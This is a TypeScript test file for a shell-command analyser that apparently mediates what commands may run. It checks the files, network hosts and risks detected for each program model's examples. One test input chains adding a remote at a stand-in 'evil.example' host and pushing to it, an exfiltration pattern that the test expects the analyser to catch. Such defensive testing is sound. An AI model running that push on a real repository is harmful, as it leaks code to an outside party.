/**
 * Every program model's own examples (daemon/src/mediation/shell/programs/*.ts), run through the
 * analyser: a model's examples are its tests. Paths in examples: relative to the workspace /w,
 * `~` is /h.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { posix } from 'node:path';
import { analyseShell } from '../../daemon/src/mediation/shell/analyse.js';
import { allModels } from '../../daemon/src/mediation/shell/programs/index.js';
import type { ModelExample } from '../../daemon/src/mediation/shell/model.js';

const WS = '/w';
const HOME = '/h';

function resolve(path: string): string {
  // Labels, not paths: `env:HOME`, `inline:python`, `package scripts`, `container: npm test`.
  if (/^[\w-]+:/.test(path) || (!path.includes('/') && path.includes(' '))) return path;
  if (path === '~' || path.startsWith('~/')) return HOME + path.slice(1);
  if (path.startsWith('/') || path.startsWith('?')) return path;
  const joined = posix.join(WS, path);
  return joined.length > 1 && joined.endsWith('/') ? joined.slice(0, -1) : joined;
}

/** What is wrong with the analysis of one example, or undefined. */
export function checkExample(example: ModelExample): string | undefined {
  const e = analyseShell(example.cmd, { cwd: WS, home: HOME, workspace: WS });
  const problems: string[] = [];
  const within = (kind: 'reads' | 'writes' | 'deletes' | 'executes', wanted?: string[]) => {
    for (const p of wanted ?? [])
      if (!e[kind].includes(resolve(p)))
        problems.push(`${kind} lacks ${resolve(p)} (has ${e[kind].join(', ') || 'none'})`);
  };
  within('reads', example.reads);
  within('writes', example.writes);
  within('deletes', example.deletes);
  within('executes', example.executes);
  for (const h of example.hosts ?? [])
    if (!e.hosts.includes(h)) problems.push(`hosts lack ${h} (has ${e.hosts.join(', ') || 'none'})`);
  for (const r of example.risks ?? [])
    if (!e.risks.includes(r)) problems.push(`risks lack ${r} (has ${e.risks.join(', ') || 'none'})`);
  for (const p of example.runs ?? [])
    if (!e.programs.includes(p)) problems.push(`runs lack ${p} (has ${e.programs.join(', ')})`);
  if (example.network !== undefined && e.network !== example.network)
    problems.push(`network is ${e.network}`);
  if (example.unknown === true && e.unknown.length === 0) problems.push('everything was understood');
  if (example.unknown === false && e.unknown.length > 0)
    problems.push(`not understood: ${e.unknown.join('; ')}`);
  if (typeof example.unknown === 'string' && !e.unknown.some((u) => u.includes(example.unknown as string)))
    problems.push(`no reason mentions "${example.unknown}": ${e.unknown.join('; ') || 'none'}`);
  if (example.only) {
    if (e.unknown.length > 0 && example.unknown === undefined)
      problems.push(`not understood: ${e.unknown.join('; ')}`);
    const risks = e.risks.filter((r) => !(example.risks ?? []).includes(r));
    if (risks.length > 0) problems.push(`unexpected risks: ${risks.join(', ')}`);
    if (e.network && example.network === undefined && (example.hosts ?? []).length === 0)
      problems.push('unexpected network use');
    for (const kind of ['writes', 'deletes'] as const) {
      const listed = new Set((example[kind] ?? []).map(resolve));
      const extra = e[kind].filter((p) => !listed.has(p));
      if (extra.length > 0) problems.push(`unexpected ${kind}: ${extra.join(', ')}`);
    }
  }
  return problems.length > 0 ? problems.join('; ') : undefined;
}

test('every program model runs its own examples', () => {
  const failures: string[] = [];
  let count = 0;
  for (const { family, spec } of allModels()) {
    for (const example of spec.examples) {
      count++;
      const problem = checkExample(example);
      if (problem) failures.push(`${family}/${spec.names[0]}: \`${example.cmd}\`: ${problem}`);
    }
  }
  assert.deepEqual(failures, [], `${failures.length} of ${count} examples fail`);
});

test('models are complete: a summary and an example each, no name twice', () => {
  const names = new Set<string>();
  for (const { family, spec } of allModels()) {
    assert.ok(spec.summary.length > 5, `${family}/${spec.names[0]} has no summary`);
    assert.ok(spec.examples.length > 0, `${family}/${spec.names[0]} has no example`);
    for (const name of spec.names) {
      assert.ok(!names.has(name), `\`${name}\` is modelled twice`);
      names.add(name);
    }
  }
});

test('a model that uses the network always names where: a host, its default servers, or `?` (never none)', () => {
  const silent: string[] = [];
  for (const { family, spec } of allModels())
    for (const example of spec.examples) {
      const e = analyseShell(example.cmd, { cwd: WS, home: HOME, workspace: WS });
      if (e.network && e.hosts.length === 0) silent.push(`${family}/${spec.names[0]}: \`${example.cmd}\``);
    }
  assert.deepEqual(silent, []);
});

test('remote specs are read one way by git, scp, rsync and ssh: the host, never the scheme', () => {
  const hosts = (cmd: string) => analyseShell(cmd, { cwd: WS, home: HOME, workspace: WS }).hosts;
  for (const [cmd, expected] of [
    ['scp f.txt scp://deploy@files.example:2222/tmp/', ['files.example']],
    ['scp f.txt ssh://files.example/tmp/', ['files.example']],
    ['scp deploy@files.example:/etc/app.conf .', ['files.example']],
    ['scp f.txt deploy@[2001:db8::1]:/tmp/', ['[2001:db8::1]']],
    ['rsync -a dist/ rsync://mirror.example/module/', ['mirror.example']],
    ['rsync -a dist/ mirror.example::module', ['mirror.example']],
    ['sftp sftp://u@files.example:2222/x', ['files.example']],
    ['ssh ssh://u@Build.Example:2222 uptime', ['build.example']],
    ['git push ssh://git@Code.Example:2222/org/repo.git main', ['code.example']],
    ['git push git@github.com:org/repo.git', ['github.com']],
    ['git fetch https://gitlab.example/org/repo.git', ['gitlab.example']],
    ['git pull myhost:repo.git', ['myhost']],
    ['git push origin main', ['?remote:origin']],
    ['git push', ['?remote:origin']],
    ['git fetch upstream', ['?remote:upstream']],
    ['git remote add x https://evil.example/r.git && git push x', ['evil.example']],
  ] as const)
    assert.deepEqual(hosts(cmd), expected, cmd);
  // A local repository is a read, not a host.
  const local = analyseShell('git fetch file:///srv/r.git', { cwd: WS, home: HOME, workspace: WS });
  assert.ok(local.reads.includes('/srv/r.git/**'), local.reads.join(', '));
  assert.ok(!local.hosts.some((h) => !h.startsWith('?')), local.hosts.join(', '));
});
